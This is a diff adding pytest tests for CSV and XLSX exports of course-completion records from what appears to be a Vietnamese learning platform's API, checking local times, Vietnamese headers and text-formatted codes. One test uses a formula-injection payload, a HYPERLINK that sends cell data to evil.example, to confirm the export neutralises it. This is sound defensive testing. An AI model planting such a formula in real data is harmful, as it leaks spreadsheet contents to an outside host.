@@ -9,10 +9,12 @@ import random
 import uuid
 from datetime import UTC, datetime
 
+import openpyxl
 import psutil
 import pytest
 from sqlalchemy import String, cast, func, insert, literal, select, text, true
 
+from app.core import spreadsheets
 from app.models.base import UTCDateTime
 from app.models.completion import Completion
 from app.models.course import Course
@@ -252,6 +254,69 @@ async def test_ndjson_export_matches_the_feed(live, keyring, settings):
     assert r.headers["content-type"].startswith("application/x-ndjson")
     lines = [json.loads(line) for line in r.text.splitlines()]
     assert lines == feed
+
+
+async def test_csv_export_has_local_times_and_offers_semicolons(live, keyring, settings):
+    async def arrange(session):
+        await complete(session, province="01", at=datetime(2026, 12, 3, 23, 30, tzinfo=UTC))
+
+    await live.arrange(arrange)
+    headers = reader(keyring, settings)
+    await read_feed(live.client, headers, expected=1)
+    r = await live.client.get("/api/v1/completions/export", params={"delimiter": ";"}, headers=headers)
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0]["province_code"] == "01"
+    assert rows[0]["completed_at"] == "2026-12-03T23:30:00Z"
+    assert rows[0]["completed_at_local"] == "2026-12-04T06:30:00+07:00"  # 4 December in Hà Nội
+    r = await live.client.get("/api/v1/completions/export", params={"delimiter": "|"}, headers=headers)
+    assert r.status_code == 422
+
+
+async def test_xlsx_export_has_local_dates_codes_as_text_and_names_beside_codes(live, keyring, settings):
+    async def arrange(session):
+        await complete(session, province="01", at=datetime(2026, 12, 3, 23, 30, tzinfo=UTC),
+                       full_name="Đặng Thị Ánh Tuyết")
+
+    await live.arrange(arrange)
+    headers = reader(keyring, settings)
+    await read_feed(live.client, headers, expected=1)
+    r = await live.client.get("/api/v1/completions/export", params={"format": "xlsx"}, headers=headers)
+    assert r.status_code == 200 and r.headers["content-type"] == spreadsheets.XLSX_MEDIA_TYPE
+    assert r.headers["content-disposition"].endswith('.xlsx"')
+    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
+    assert ws.title == "Lượt hoàn thành" and ws.freeze_panes == "A2"
+    header = [c.value for c in ws[1]]
+    row = dict(zip(header, [c.value for c in ws[2]], strict=True))
+    assert row["Thời điểm hoàn thành (giờ Việt Nam)"] == datetime(2026, 12, 4, 6, 30)
+    assert row["Họ và tên"] == "Đặng Thị Ánh Tuyết" and row["Khóa học"] == "Kỹ năng số cơ bản"
+    assert row["Mã tỉnh hiện nay"] == "01" and row["Tỉnh, thành phố hiện nay"] == "Hà Nội"
+    assert row["Đối tượng"] == "Người dân"
+    code_cell = ws.cell(2, header.index("Mã tỉnh hiện nay") + 1)
+    assert code_cell.data_type == "s" and code_cell.number_format == "@"
+    english = await live.client.get("/api/v1/completions/export", params={"format": "xlsx"},
+                                    headers={**headers, "Accept-Language": "en"})
+    ws = openpyxl.load_workbook(io.BytesIO(english.content)).active
+    assert ws["A1"].value == "Completed at (Vietnam time)" and ws["F2"].value == "Citizen"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+async def test_a_learner_named_like_a_formula_is_exported_as_text(live, keyring, settings, fmt):
+    """Issue 18 item 1: a name typed by a learner must never run in the ministry's spreadsheet."""
+    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
+
+    async def arrange(session):
+        await complete(session, full_name=attack)
+
+    await live.arrange(arrange)
+    headers = reader(keyring, settings)
+    await read_feed(live.client, headers, expected=1)
+    r = await live.client.get("/api/v1/completions/export", params={"format": fmt}, headers=headers)
+    if fmt == "csv":
+        row = next(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
+        assert row["full_name"] == "'" + attack
+    else:
+        cell = openpyxl.load_workbook(io.BytesIO(r.content)).active["B2"]
+        assert cell.value == attack and cell.data_type == "s" and cell.quotePrefix
 
 
 async def _bulk_completions(live, users: int, courses: int) -> int:
